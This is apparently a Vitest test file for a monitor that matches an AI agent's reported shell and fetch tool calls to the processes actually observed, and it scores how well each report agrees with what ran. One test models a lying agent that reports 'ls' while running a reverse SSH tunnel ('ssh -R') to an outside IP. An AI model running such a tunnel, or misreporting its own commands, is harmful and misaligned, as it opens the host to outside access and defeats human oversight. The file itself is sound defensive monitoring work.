import { describe, expect, it } from 'vitest'
import type { JournalLine } from '../../schema/journal.ts'
import { ToldCalls, type ToldStart } from './told-calls.ts'

function start() {
  const lines: JournalLine[] = []
  const calls = new ToldCalls('box', (line) => void lines.push(line))
  return { lines, calls }
}

const told = (id: string, command: string, more: Partial<ToldStart> = {}): ToldStart => ({
  id,
  tool: 'Bash',
  command,
  source: 'claude-hook',
  by: 'agent',
  atMs: 1000,
  ...more,
})
const which = (id: string, command: string) => ({ id, tool: 'Bash', command, by: 'agent' as const })

describe('told calls', () => {
  it('are joined to the subtree that runs their text, and both say so', () => {
    const { lines, calls } = start()
    calls.start(told('t1', 'npm test'))
    const work = calls.work('unit-1/7-9', "bash -c 'npm test'", 1050)
    expect(work.label).toEqual({ toolCall: 't1', source: 'claude-hook', agreement: 1, tool: 'Bash' })
    calls.end(which('t1', 'npm test'), { atMs: 1500, output: 'ok' })
    expect(lines.map((line) => line.class === 'execute_tool' && line.activity)).toEqual(['start', 'end'])
    expect(lines[1]).toMatchObject({
      unit: 'unit-1/7-9',
      processes: 1,
      duration: 500,
      tier: 'none',
      output: 'ok',
    })
  })

  it('that the model asked for and a hook tells of by another id are one', () => {
    const { lines, calls } = start()
    calls.start(told('call_1', 'npm test', { source: 'llm-api' }))
    expect(calls.start(told('hook-7', 'npm test'))).toBe(false)
    expect(calls.start(told('hook-8', 'npm run lint'))).toBe(true)
    calls.end(which('hook-7', 'npm test'), { atMs: 1500 })
    expect(calls.end(which('call_1', 'npm test'), { atMs: 1600 })).toBe(false)
    expect(lines.map((line) => line.class === 'execute_tool' && `${line.activity} ${line.toolCall}`)).toEqual(
      ['start call_1', 'start hook-8', 'end call_1'],
    )
  })

  it('that run at once are told apart by their text', () => {
    const { calls } = start()
    calls.start(told('t1', 'curl -s https://a.example.com/'))
    calls.start(told('t2', 'curl -s https://b.example.com/'))
    expect(calls.work('u/2', "bash -c 'curl -s https://b.example.com/'", 1010).label?.toolCall).toBe('t2')
    expect(calls.work('u/1', "bash -c 'curl -s https://a.example.com/'", 1020).label?.toolCall).toBe('t1')
  })

  it('that say the same are given a subtree each', () => {
    const { calls } = start()
    calls.start(told('t1', 'make'))
    calls.start(told('t2', 'make'))
    const labels = [1, 2].map((n) => calls.work(`u/${n}`, 'bash -c make', 1010).label?.toolCall)
    expect(new Set(labels)).toEqual(new Set(['t1', 't2']))
  })

  it('that lie are joined by time and ancestry alone, and the agreement says how little that is', () => {
    const { lines, calls } = start()
    calls.start(told('t1', 'ls'))
    const work = calls.work('u/1', "bash -c 'ssh -R 1:localhost:22 u@203.0.113.7'", 1010)
    expect(work.label).toMatchObject({ toolCall: 't1', agreement: 0.4 })
    calls.end(which('t1', 'ls'), { atMs: 1100 })
    expect(lines.at(-1)).toMatchObject({ processes: 1, unit: 'u/1' })
  })

  it('are worth less when a process of a call told of them', () => {
    const { calls } = start()
    calls.start(told('t1', 'make', { by: 'work' }))
    expect(calls.work('u/1', 'bash -c make', 1010).label?.agreement).toBe(0.85)
  })

  it('that come late find what runs already; much later they find nothing', () => {
    const { lines, calls } = start()
    const [work, old] = [
      calls.work('u/1', 'bash -c make', 4000),
      calls.work('u/2', "bash -c 'make all'", -9000),
    ]
    expect(work.label).toBeUndefined()
    calls.start(told('t1', 'make', { atMs: 5000 }))
    calls.start(told('t2', 'make all', { atMs: 5000 }))
    expect(work.label?.agreement).toBeGreaterThan(0.9)
    expect(lines[0]).toMatchObject({ activity: 'start', unit: 'u/1' })
    expect(old.label).toBeUndefined()
  })

  it('that nothing ran for say so', () => {
    const { lines, calls } = start()
    calls.start(told('t1', 'ls'))
    calls.end(which('t1', 'ls'), { atMs: 1100 })
    expect(lines.at(-1)).toMatchObject({ processes: 0 })
    expect(calls.summary()).toMatchObject({ withoutProcess: 1 })
  })

  it('leave alone what an agent does for itself, and what nobody told of', () => {
    const { lines, calls } = start()
    expect(calls.work('u/0', "bash -c 'make'", 900).label).toBeUndefined()
    calls.start(told('t1', 'npm test'))
    // While the call waits for its process, only the agreement tells.
    expect(calls.work('u/1', 'git rev-parse HEAD', 1010).label?.agreement).toBe(0.4)
    expect(calls.work('u/3', "bash -c 'npm test'", 1010).label?.agreement).toBe(1)
    expect(calls.work('u/4', 'git status', 1010).label).toBeUndefined()
    calls.end(which('t1', 'npm test'), { atMs: 1100 })
    expect(lines.at(-1)).toMatchObject({ unit: 'u/3', processes: 1 })
    expect(calls.work('u/2', "sh -c 'ps aux'", 9000).label).toBeUndefined()
    expect(calls.summary()).toMatchObject({ told: 1, subtrees: 5, subtreesWithCall: 2 })
  })

  it('of a shell that stays open are known by their own words', () => {
    const { calls } = start()
    const shell = calls.work('u/1', 'bash --norc', 500)
    calls.start(told('t1', 'cd app; pytest -q'))
    expect(shell.label).toBeUndefined()
    expect(calls.part('pytest -q', 1010)?.toolCall).toBe('t1')
    calls.end(which('t1', 'cd app; pytest -q'), { atMs: 1100 })
    calls.start(told('t2', 'curl -s https://example.com/', { atMs: 2000 }))
    expect(calls.part('curl -s https://example.com/', 2010)?.toolCall).toBe('t2')
  })

  it('of tools that are no shell speak for connections of the agent to what they name', () => {
    const { calls } = start()
    calls.start({ ...told('t1', '{"url":"https://docs.example.com/a"}'), tool: 'WebFetch' })
    expect(calls.naming('docs.example.com')).toMatchObject({ toolCall: 't1', tool: 'WebFetch' })
    expect(calls.naming('api.example.net')).toBeUndefined()
  })

  it('from two sources are one', () => {
    const { lines, calls } = start()
    const afterwards = { at: '2026-11-24T08:00:00.000000Z', endMs: 1400 }
    calls.start(told('t1', 'make'))
    calls.end(which('t1', 'make'), { atMs: 1500 })
    expect(calls.start(told('t1', 'make', { source: 'otel', afterwards }))).toBe(false)
    expect(calls.start(told('otel-1', 'make', { source: 'otel', afterwards }))).toBe(false)
    expect(lines).toHaveLength(2)
  })

  it('may come in floods: memory and work stay bounded', () => {
    const { calls } = start()
    for (let i = 0; i < 30_000; i++) calls.start(told(`t${i}`, `make target-${i}`))
    expect(calls.work('u/1', "bash -c 'make target-29999'", 1010).label?.toolCall).toBe('t29999')
    expect(calls.summary().told).toBe(30_000)
  })
})
